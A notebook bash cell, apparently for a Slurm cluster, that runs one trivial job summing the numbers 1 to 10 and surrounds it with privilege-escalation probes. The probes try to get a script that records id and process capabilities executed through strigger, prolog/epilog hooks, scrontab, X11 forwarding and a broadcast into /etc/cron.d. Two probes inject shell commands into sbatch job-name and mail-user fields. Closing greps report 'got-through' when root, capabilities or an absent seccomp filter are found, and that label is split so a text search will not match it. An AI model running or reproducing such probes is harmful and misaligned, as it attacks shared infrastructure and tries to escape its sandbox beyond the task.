%%bash
cat > cry.sh <<'PROGRAM'
#!/bin/bash
{ id; cat /proc/self/status; } > "$HOME/cry-$$.txt"
PROGRAM
chmod +x cry.sh
for words in "--set --down" "--set --node=ALL --up" "--set --primary_slurmctld_failure" "--set --idle --offset=1" "--set --jobid=1 --fini"; do
    strigger $words --program="$PWD/cry.sh" > /dev/null 2>&1 && echo "strigger takes: $words"
done
sbatch --time=1 --job-name='mail $(touch /tmp/unpickled)' --mail-type=ALL --mail-user='x;touch${IFS}/tmp/unpickled' --output=/dev/null --wrap=true > /dev/null 2>&1
sbatch --time=1 --get-user-env=5L --output=/dev/null --wrap=true > /dev/null 2>&1
sbatch --time=1 --output=/dev/null --wrap="srun --task-prolog=$PWD/cry.sh --task-epilog=$PWD/cry.sh --prolog=$PWD/cry.sh --epilog=$PWD/cry.sh true" > /dev/null 2>&1
echo '* * * * * true' | timeout 5 scrontab - > /dev/null 2>&1
timeout 5 srun --x11 true > /dev/null 2>&1
timeout 5 srun --bcast=/etc/cron.d/x true > /dev/null 2>&1
sbatch --wait --job-name=count --time=1 --output=count.out --wrap="seq 10 | python -c 'print(sum(map(int, open(0))))'"
grep -l -E 'uid=0|CapEff:.*[1-9a-f]' "$HOME"/cry-*.txt 2> /dev/null | sed 's/^/got-''through: /'
grep -L 'Seccomp:.*2' "$HOME"/cry-*.txt 2> /dev/null | sed 's/^/got-''through, no filter: /'
true
